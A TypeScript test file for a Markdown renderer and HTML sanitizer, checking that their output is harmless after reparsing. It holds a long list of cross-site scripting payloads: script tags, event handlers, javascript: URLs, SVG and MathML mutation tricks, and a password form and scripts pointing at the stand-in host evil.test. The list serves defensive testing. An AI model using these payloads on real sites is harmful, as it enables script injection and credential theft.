import naughtyStrings from "big-list-of-naughty-strings/blns.json" with { type: "json" };
import publishedAttacks from "dompurify-fixtures/test/fixtures/expect.js";
import * as fc from "fast-check";
import { type DefaultTreeAdapterTypes, html as html5, parseFragment, serialize } from "parse5";
import { describe, expect, test } from "vitest";
import { parseMarkdown, renderMarkdown } from "./markdown.ts";
import { safeHtml } from "./safe-html.ts";

const render = (text: string, names: [string, string][] = []) => renderMarkdown(parseMarkdown(text), new Map(names));

const tags = new Set(
  "p br hr h1 h2 h3 h4 h5 h6 blockquote pre code em strong b i u s del ins mark sub sup kbd small ul ol li dl dt dd details summary table thead tbody tr th td a img span".split(
    " ",
  ),
);
const attributes = new Set(
  "a.href a.title a.rel img.src img.alt img.title img.width img.height img.loading img.referrerpolicy img.data-file-id ol.start details.open th.align td.align code.class span.class span.data-kind span.data-id".split(
    " ",
  ),
);

/** What a browser would find wrong with some HTML, by the rules of HTML5, whatever library made it. */
function harms(html: string): string[] {
  const found: string[] = [];
  const visit = (node: DefaultTreeAdapterTypes.ChildNode): void => {
    if (node.nodeName === "#text") return;
    if (!("tagName" in node)) {
      found.push(node.nodeName);
      return;
    }
    if (!tags.has(node.tagName) || node.namespaceURI !== html5.NS.HTML) found.push(`<${node.tagName}>`);
    for (const { name, value } of node.attrs) {
      if (!attributes.has(`${node.tagName}.${name}`)) found.push(`${node.tagName}.${name}`);
      if ((name === "href" || name === "src") && !/^(https?:\/\/|mailto:)/i.test(value)) found.push(value);
      if (name === "data-file-id" && !/^[0-9a-f-]{36}$/.test(value)) found.push(value);
      if (name === "class" && !/^(mention|language-\S+)$/.test(value)) found.push(value);
    }
    const rel = node.attrs.find(({ name }) => name === "rel")?.value;
    if (node.attrs.some(({ name }) => name === "href") && rel !== "noopener nofollow") found.push("rel");
    node.childNodes.forEach(visit);
  };
  // Links in tables move when they are read again (HTML §13.2.6, "adoption agency"); whatever they become is looked at.
  let again = html;
  for (let reading = 0; reading < 4; reading += 1) {
    const tree = parseFragment(again);
    tree.childNodes.forEach(visit);
    again = serialize(tree);
  }
  return found;
}

const script = "alert(1)";
const attacks = {
  "a script": `<script>${script}</script>`,
  "a script by address": `<script src=//evil.test/x.js></script>`,
  "a script in capitals, and broken": `<ScRiPt\n>${script}</sCrIpT\t>`,
  "a script inside a script": `<scr<script>ipt>${script}</scr</script>ipt>`,
  "a script that is never closed": `<script>${script}`,
  "a tag that is never closed": `<img src=x onerror=${script}//`,
  handlers: `<p onclick=${script} OnMouseOver="${script}" onfocus\n=\n'${script}'>x</p>`,
  "a handler behind a slash": `<img/src=x/onerror=${script}>`,
  "a handler behind a quote": `<a title="x"onclick="${script}">x</a>`,
  "a handler behind NUL": `<img \u0000onerror=${script} src=x>`,
  "a script's address": `<a href="javascript:${script}">x</a>`,
  "the same in pieces": `<a href="java\nscript:${script}">x</a><a href="jav&#x09;ascript:${script}">x</a>`,
  "the same in entities": `<a href="&#106;&#97;vascript&colon;${script}">x</a>`,
  "the same behind spaces": `<a href=" \u0001\u2028javascript:${script}">x</a><a href="&nbsp;javascript:${script}">x</a>`,
  "the same in Markdown": `[x](javascript:${script}) [y](<java&#115;cript:${script}>) <javascript:${script}> [z][z]\n\n[z]: javascript:${script}`,
  "other schemes": `<a href="vbscript:x">x</a><a href="file:///etc/passwd">x</a><a href="blob:x">x</a><a href="ftp://x">x</a>`,
  "data as an address": `<a href="data:text/html,<script>${script}</script>">x</a><img src="data:image/svg+xml,<svg onload=${script}>">`,
  "an address without scheme": `<a href="//evil.test">x</a><a href="/\\evil.test">x</a><a href="\\\\evil.test">x</a><img src="//evil.test/x.png">`,
  "a relative address": `<a href="/api/v1/auth/logout">x</a> [x](../x) ![x](x.png) <a href="#x">x</a>`,
  "a link's own relation": `<a href="https://x.test" rel="opener" target="_top">x</a>`,
  "a frame": `<iframe src="https://evil.test" srcdoc="<script>${script}</script>"></iframe><frameset onload=${script}>`,
  "an object": `<object data="javascript:${script}"></object><embed src="x.swf"><applet code=x>`,
  "a form": `<form action="https://evil.test"><input name=password autofocus onfocus=${script}><button formaction="javascript:${script}">x</button></form>`,
  "a base": `<base href="https://evil.test/"><meta http-equiv=refresh content="0;url=javascript:${script}"><link rel=stylesheet href=//evil.test/x.css>`,
  "a style": `<style>@import "https://evil.test/x.css"</style><p style="background:url(javascript:${script})">x</p>`,
  "an overlay": `<p style="position:fixed;inset:0" class="modal" id="app">x</p>`,
  "a style in a cell": `<table><tr><td style="text-align:left;position:fixed" align="x">x</td></tr></table>`,
  "names that shadow": `<img name=getElementById><a id=location name=cookie href="https://x.test">x</a>`,
  "SVG with a handler": `<svg onload=${script}><animate onbegin=${script} attributeName=x /></svg>`,
  "SVG that links": `<svg><a xlink:href="javascript:${script}"><text y=20>x</text></a><use href="data:image/svg+xml,x#y"/></svg>`,
  "SVG that hides HTML": `<svg><foreignObject><iframe onload=${script}></iframe></foreignObject></svg>`,
  "a style that turns in SVG": `<svg></p><style><a id="</style><img src=1 onerror=${script}>">`,
  "a title that turns in SVG": `<svg><title><style><img title="</style><img src onerror=${script}>"></style></title></svg>`,
  "MathML that turns": `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${script}&gt;">`,
  "MathML that links": `<math><mi xlink:href="javascript:${script}">x</mi><maction actiontype="statusline" href="javascript:${script}">x</maction></math>`,
  "annotation that turns": `<math><annotation-xml encoding="text/html"><p><style><img title="</style><img src onerror=${script}>"></style></p></annotation-xml></math>`,
  "noscript that turns": `<noscript><p title="</noscript><img src=x onerror=${script}>"></noscript>`,
  "a text area that turns": `<textarea><p title="</textarea><img src=x onerror=${script}>"></textarea>`,
  "raw text of old": `<xmp><p title="</xmp><img src=x onerror=${script}>"></xmp><noembed><p title="</noembed><img src=x onerror=${script}>"></noembed>`,
  "a plaintext that never ends": `<plaintext><img src=x onerror=${script}>`,
  "a template": `<template><img src=x onerror=${script}></template><template shadowrootmode=open><script>${script}</script></template>`,
  "an option": `<select><option><style></option></select><img src=x onerror=${script}></style>`,
  "a comment that ends early": `<!--><img src=x onerror=${script}>--> <!-- --!><img src=x onerror=${script}> -->`,
  "a comment within an attribute": `<p title="<!--">x</p><img alt="--><img src=x onerror=${script}>">`,
  "a conditional comment": `<!--[if gte IE 4]><script>${script}</script><![endif]-->`,
  "CDATA and instructions": `<![CDATA[<img src=x onerror=${script}>]]><?xml-stylesheet href="javascript:${script}"?><!DOCTYPE x [<!ENTITY y "z">]>`,
  "custom elements": `<x-app is="x" onclick=${script}>x</x-app><p is="x-app" slot="x" contenteditable>x</p>`,
  "attributes that bind": `<p ng-app v-html="x" x-data="{}" data-bind="x" {{constructor.constructor('${script}')()}}>x</p>`,
  media: `<video src=x onerror=${script}><source onerror=${script}><audio controls autoplay><track src=x></video>`,
  "a picture's map and set": `<img srcset="https://evil.test/x 1x" usemap="#m" src="https://x.test/x.png"><map name=m><area href="javascript:${script}"></map>`,
  "a file's id that is none": `<img data-file-id="x" src=x onerror=${script}> ![x](attachment:../x) ![x](attachment:${script})`,
  "details that run": `<details open ontoggle=${script}><summary onclick=${script}>x</summary></details>`,
  "a picture's title in Markdown": `![x" onerror="${script}](https://x.test "x" onload="${script}")`,
  "code's language": '```js" onclick="alert(1)\nx\n```\n\n```<script>\nx\n```',
  "a mention's name": `@[<img src=x onerror=${script}>](user:0199a3b2-0000-7000-8000-000000000001)`,
  "a mention of one's own making": `<span class="mention" data-kind="user" data-id="x" onclick=${script}>@x</span>`,
  "HTML between Markdown": `**<img src=x onerror=${script}>** | \`<script>\` ~~<svg onload=${script}>~~`,
  "quotes of another kind":
    "<img src=`x` onerror=`alert(1)`><a href='https://x.test' title='\"><script>alert(1)</script>'>x</a>",
  "text in another writing": `\u202e<img src=x onerror=${script}> ＜script＞${script}＜/script＞ %3Cscript%3E`,
};

describe.each([
  ["as Markdown", (text: string) => render(text)],
  ["as HTML", safeHtml],
] as const)("%s", (_, make) => {
  test.each(Object.entries(attacks))("%s comes out harmless", (_, attack) => {
    const html = make(attack);
    expect(harms(html), html).toEqual([]);
    expect(harms(safeHtml(html)), html).toEqual([]); // nothing wakes up the second time
  });

  test("naughty strings come out harmless", () => {
    for (const text of naughtyStrings) expect(harms(make(text)), text).toEqual([]);
  });

  test.each(publishedAttacks.map(({ title = "one without a title", payload }) => [title, payload]))(
    "of DOMPurify's fixtures, %s comes out harmless",
    (_, payload) => {
      const html = make(payload);
      expect(harms(html), html).toEqual([]);
      expect(harms(safeHtml(html)), html).toEqual([]);
    },
  );

  test("so do pieces in any order", () => {
    const pieces = [
      ..."<>/='\" \n\t`&!-[]()\\#",
      ..."<!-- --> <![CDATA[ ]]> </ /> &lt; &#60; &colon; javascript: onerror=alert(1) src=x href= style= title= id= xmlns=".split(
        " ",
      ),
      ..."p a img svg math style script title textarea noscript template select table tr td mglyph mtext foreignObject desc iframe xmp plaintext form"
        .split(" ")
        .flatMap((tag) => [`<${tag}`, `<${tag}>`, `</${tag}>`]),
    ];
    const soup = fc.array(fc.constantFrom(...pieces), { maxLength: 40 }).map((parts) => parts.join(""));
    fc.assert(
      fc.property(soup, (text) => {
        expect(harms(make(text)), text).toEqual([]);
      }),
      { numRuns: 2_000 },
    );
  });
});

test("the judge knows harm when it sees it", () => {
  for (const html of [
    "<script>",
    '<a href="javascript:x">',
    "<p onclick=x>",
    "<svg>",
    "<!-- -->",
    '<a href="https://x">',
  ])
    expect(harms(html), html).not.toEqual([]);
});

test.each([
  ["**b** *i* ~~s~~ `c`", "<p><strong>b</strong> <em>i</em> <s>s</s> <code>c</code></p>"],
  ["a\nb", "<p>a<br />\nb</p>"],
  ["> said", "<blockquote>\n<p>said</p>\n</blockquote>"],
  ["3. x", '<ol start="3">\n<li>x</li>\n</ol>'],
  ["```ts\n1 < 2\n```", '<pre><code class="language-ts">1 &lt; 2\n</code></pre>'],
  ["[x](https://x.test/?a=1&b=2)", '<p><a href="https://x.test/?a=1&amp;b=2" rel="noopener nofollow">x</a></p>'],
  ["https://x.test", '<p><a href="https://x.test" rel="noopener nofollow">https://x.test</a></p>'],
  ["me@x.test", '<p><a href="mailto:me@x.test" rel="noopener nofollow">me@x.test</a></p>'],
  ["<kbd>Ctrl</kbd> H<sub>2</sub>O", "<p><kbd>Ctrl</kbd> H<sub>2</sub>O</p>"],
  [
    "<details><summary>x</summary>\n\n*y*\n\n</details>",
    "<details><summary>x</summary>\n<p><em>y</em></p>\n</details>",
  ],
  [
    "![x](attachment:0199A3B2-0000-7000-8000-000000000001)",
    '<p><img alt="x" data-file-id="0199a3b2-0000-7000-8000-000000000001" /></p>',
  ],
  ["<b>never closed", "<p><b>never closed</b></p>"],
  ["1 < 2 && 3 > 2", "<p>1 &lt; 2 &amp;&amp; 3 &gt; 2</p>"],
])("%j reads %s", (text, html) => {
  expect(render(text)).toBe(html);
});

const id = "0199a3b2-0000-7000-8000-000000000001";

test.each([
  [`@[Ann](user:${id})`, { userIds: [id] }],
  [`@[Ann](USER:${id.toUpperCase()}), @[Ann](user:${id})`, { userIds: [id] }],
  [`**@[Ann](user:${id})** and [see @[B](team:${id})](https://x.test)`, { userIds: [id], teamIds: [id] }],
  ["(@watchers)", { watchers: true }],
  ["me@watchers", {}],
  ["@watcherships", {}],
  [`\`@[Ann](user:${id})\``, {}],
  [`    @[Ann](user:${id})`, {}],
  [`\\@[Ann](user:${id})`, {}],
  ["@[Ann](user:nobody) @[Ann](https://x.test)", {}],
  [`<p title="@[Ann](user:${id})">x</p>`, {}],
])("%s names %j", (text, named) => {
  const { userIds, teamIds, watchers } = parseMarkdown(text);
  expect({ userIds, teamIds, watchers }).toEqual({ userIds: [], teamIds: [], watchers: false, ...named });
});

test("a long text of one and the same kind takes its time, not the server's", () => {
  const kinds = [
    "[",
    "*a ",
    "<",
    ">",
    "@[",
    "![",
    "<b>",
    "- ",
    "|\n",
    "[a](<b",
    "`a``",
    "&",
    "a@",
    "http://",
    "_*",
    "<!--",
    "<a ",
  ];
  for (const kind of kinds) render(kind.repeat(50_000 / kind.length)); // quadratic ones would take minutes each
}, 60_000);
